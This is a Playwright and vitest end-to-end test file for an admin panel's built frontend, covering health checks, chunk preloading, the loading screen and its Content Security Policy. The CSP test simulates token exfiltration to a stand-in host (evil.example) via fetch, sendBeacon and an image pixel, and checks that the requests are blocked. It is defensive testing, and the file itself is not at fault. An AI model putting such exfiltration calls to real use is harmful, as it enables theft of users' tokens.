import type { Browser } from 'playwright';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { apiUrl, closeContexts, launchBrowser, openPage, panelUrl } from './support';

let browser: Browser;
beforeAll(async () => {
  browser = await launchBrowser();
});
afterAll(async () => {
  await closeContexts(browser);
});

describe('the built panel on the real server', () => {
  it('answers health checks', async () => {
    const response = await fetch(`${apiUrl()}/health`);
    expect(response.status).toBe(200);
    expect(await response.json()).toEqual({ status: 'ok' });
  });

  it('serves the panel with a deep link falling back to the app', async () => {
    const { page, problems, context } = await openPage(browser, { fresh: true });
    const response = await page.goto(`${panelUrl()}/blog/list`);
    expect(response?.status()).toBe(200);
    await expect(page.title()).resolves.toBe('Admin Panel');
    expect(problems).toEqual([]);
    await context.close();
  });

  it("names each page's own lazy chunks in its HTML, so the browser fetches them with the entry", async () => {
    const preloads = async (pathname: string) => {
      const html = await (await fetch(`${panelUrl()}${pathname}`)).text();
      return [...html.matchAll(/<link rel="preload" as="script" crossorigin href="([^"]+)">/g)].map(
        (match) => match[1]!,
      );
    };
    const list = await preloads('/blog/list');
    // The list pages' chunk (vite.config.ts firstScreenChunks) and the signed-in shell: the router app, the guard and
    // the menu, which the entry starts at once on every page but sign-in.
    expect(list.some((file) => /\/assets\/lists-[\w-]+\.js$/.test(file))).toBe(true);
    expect(list.some((file) => /\/assets\/shell-[\w-]+\.js$/.test(file))).toBe(true);
    expect(list.some((file) => /\/assets\/app-[\w-]+\.js$/.test(file))).toBe(true);
    for (const file of list) expect((await fetch(`${panelUrl()}${file}`)).status, file).toBe(200);
    // A page's first screen comes in a few files (vite.config.ts firstScreenChunks), not dozens of small ones.
    expect(list.length).toBeLessThanOrEqual(10);
    expect((await preloads('/dashboard')).length).toBeLessThanOrEqual(7);
    const signin = await preloads('/signin');
    expect(signin.some((file) => /\/assets\/signIn-[\w-]+\.js$/.test(file))).toBe(true);
    expect(signin.some((file) => /\/assets\/app-[\w-]+\.js$/.test(file))).toBe(true);
    // The sign-in page is not told to fetch the signed-in shell or any page's code.
    expect(signin.some((file) => /\/assets\/(shell|lists|forms|dashboard)-/.test(file))).toBe(false);
  });

  it('paints "Loading..." from the HTML alone, before any script has run', async () => {
    const html = await (await fetch(`${panelUrl()}/dashboard`)).text();
    // No stylesheet to wait for: the entry's CSS is in the page.
    expect(html).not.toMatch(/<link rel="stylesheet"/);
    expect(html).toContain('<style>');
    const context = await browser.newContext({ javaScriptEnabled: false, colorScheme: 'light' });
    const page = await context.newPage();
    await page.goto(`${panelUrl()}/dashboard`);
    const status = page.getByRole('status');
    await expect.poll(() => status.textContent()).toBe('Loading...');
    const style = await status.evaluate((element) => {
      const { backgroundColor } = getComputedStyle(element);
      return { backgroundColor, fillsTheWindow: element.getBoundingClientRect().height === window.innerHeight };
    });
    // The light theme's page background, over the whole window, as LoadingScreen draws it once React runs.
    expect(style).toEqual({ backgroundColor: 'rgb(244, 246, 250)', fillsTheWindow: true });
    await context.close();
  });

  it("paints the page's Loading... before the app's code replaces it", async () => {
    const { page, context } = await openPage(browser, { fresh: true });
    await page.addInitScript(() => {
      const times: Record<string, number> = {};
      (window as unknown as { __boot: Record<string, number> }).__boot = times;
      new PerformanceObserver((list) => {
        for (const entry of list.getEntries()) times[entry.name] = entry.startTime;
      }).observe({ type: 'paint', buffered: true });
      new MutationObserver(() => {
        if (!times.replaced && document.getElementById('root') && !document.querySelector('.boot-loading')) {
          times.replaced = performance.now();
        }
      }).observe(document, { childList: true, subtree: true });
    });
    await page.goto(`${panelUrl()}/signin`);
    await expect.poll(() => page.getByRole('heading', { name: 'Welcome Back' }).count()).toBe(1);
    const times = await page.evaluate(() => (window as unknown as { __boot: Record<string, number> }).__boot);
    expect(times['first-contentful-paint']).toBeLessThan(times.replaced!);
    await context.close();
  });

  it("says so where Loading... was when the app's code cannot be loaded", async () => {
    const { page, context } = await openPage(browser, { fresh: true });
    await context.route(/\/assets\/app-[\w-]+\.js$/, (route) => route.abort('connectionreset'));
    await page.goto(`${panelUrl()}/dashboard`);
    await expect
      .poll(() => page.getByRole('status').textContent())
      .toBe('The panel could not be loaded. Check your connection and reload the page.');
    await context.close();
  });

  it('lets no script in the panel send data to another host (Content Security Policy)', async () => {
    const { page, context } = await openPage(browser, { fresh: true });
    const outside: string[] = [];
    // Chromium offline: any request that did leave would be answered here and counted.
    await context.route(/^https?:\/\/(?!127\.0\.0\.1[:/])/, (route) => {
      outside.push(route.request().url());
      return route.fulfill({ status: 204, body: '' });
    });
    const response = await page.goto(`${panelUrl()}/`);
    const policy = response?.headers()['content-security-policy'] ?? '';
    expect(policy).toContain(`connect-src 'self' ${new URL(apiUrl()).origin};`);
    const attempts = await page.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', (event) =>
        violations.push(`${event.effectiveDirective} ${event.blockedURI}`),
      );
      const token = 'stolen-token';
      const fetched = await fetch(`https://evil.example/steal?t=${token}`).then(
        () => 'sent',
        () => 'blocked',
      );
      const beacon = navigator.sendBeacon(`https://evil.example/beacon?t=${token}`, token);
      const image = await new Promise<string>((resolve) => {
        const img = new Image();
        img.onload = () => resolve('sent');
        img.onerror = () => resolve('blocked');
        img.src = `https://evil.example/pixel.png?t=${token}`;
      });
      await new Promise((resolve) => setTimeout(resolve, 100));
      return { fetched, beacon, image, violations: violations.sort() };
    });
    expect(attempts.fetched).toBe('blocked');
    expect(attempts.image).toBe('blocked');
    expect(attempts.violations).toEqual(
      expect.arrayContaining([
        'connect-src https://evil.example/steal?t=stolen-token',
        'img-src https://evil.example/pixel.png?t=stolen-token',
      ]),
    );
    expect(outside).toEqual([]);
    await context.close();
  });
});
